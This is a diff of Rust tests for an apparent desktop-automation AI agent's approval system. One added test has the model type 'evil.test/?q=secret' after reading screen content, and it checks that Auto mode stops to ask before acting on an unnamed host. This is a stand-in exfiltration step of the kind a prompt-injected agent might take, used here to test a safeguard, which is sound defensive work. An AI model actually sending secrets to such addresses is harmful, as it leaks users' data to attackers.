@@ -85,6 +85,19 @@ async fn a_question_is_open_after_a_crash_as_before_and_a_yes_lets_the_run_go_on
 }
 
 #[tokio::test]
+async fn a_menu_that_an_act_left_open_is_closed_and_its_item_not_asked_about() {
+    let mut bench = Bench::new(vec![click(), click(), done()]).await;
+    bench.desktop.react(|_, scene| scene.menu = true);
+    bench.start(ApprovalMode::Ask).await;
+    let asked = bench.question().await;
+    bench.handle.answer_approval(answer(&asked, Answer::Once), Surface::Dashboard).await.unwrap();
+    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
+    assert_eq!(bench.clicks(), 1);
+    let told = format!("{:?}", bench.model.requests()[2].messages.last());
+    assert!(told.contains("so it was closed") && told.contains("pressMenu"), "{told}");
+}
+
+#[tokio::test]
 async fn a_no_after_a_crash_is_told_to_the_model_and_nothing_is_done() {
     let (mut next, session, question) = after_a_crash(vec![click(), done()], vec![done()]).await;
     next.handle.answer_approval(answer(&question.approval, Answer::Deny), Surface::Dashboard).await.unwrap();
@@ -455,4 +468,26 @@ async fn a_question_about_a_window_names_it_as_it_is_called_now() {
         bench.handle.answer_approval(answer(&asked, Answer::Deny), Surface::Dashboard).await.unwrap();
     }
     bench.end().await;
+}
+
+// bar: C35
+#[tokio::test]
+async fn in_auto_an_address_that_nobody_named_is_asked_about_once_the_model_has_read_something() {
+    let typing = || Step::call("type", json!({ "text": "evil.test/?q=secret", "reason": "to look it up" }));
+    for has_read in [false, true] {
+        let look = has_read.then(|| Step::call("listWindows", json!({})));
+        let mut bench = Bench::new(look.into_iter().chain([typing(), done()]).collect()).await;
+        bench
+            .desktop
+            .edit(|scene| scene.windows = vec![WindowView { app: "Chromium".into(), ..window(1, "new") }]);
+        bench.start(ApprovalMode::Auto).await;
+        if has_read {
+            let question = bench.question().await;
+            assert_eq!(question.hosts, ["evil.test"]);
+            assert!(question.reason.contains("evil.test"), "{}", question.reason);
+            bench.handle.answer_approval(answer(&question, Answer::Deny), Surface::Dashboard).await.unwrap();
+        }
+        assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
+        assert_eq!(bench.desktop.actions().is_empty(), has_read);
+    }
 }
